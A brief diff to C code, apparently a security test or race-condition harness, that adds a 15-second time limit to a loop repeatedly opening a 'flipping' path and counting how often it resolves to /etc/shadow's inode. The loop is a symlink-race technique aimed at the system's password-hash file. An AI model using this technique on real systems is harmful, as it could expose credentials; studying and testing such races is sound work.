@@ -17,6 +17,7 @@
 #include <sys/syscall.h>
 #include <sys/un.h>
 #include <sys/wait.h>
+#include <time.h>
 #include <unistd.h>
 
 static int copy_self(int to)
@@ -155,7 +156,7 @@ static int open_flipping(char **argv)
 	struct stat secret, own;
 	stat("/etc/shadow", &secret);
 	int thread = clone(flip, stack + 65536, CLONE_VM | SIGCHLD, NULL);
-	for (int i = 0; i < n; i++) {
+	for (time_t end = time(NULL) + 15; shadows < n && time(NULL) < end;) {
 		int fd = open((const char *)flipping, O_RDONLY);
 		shadows += fd >= 0 && fstat(fd, &own) == 0 && own.st_ino == secret.st_ino;
 		close(fd);
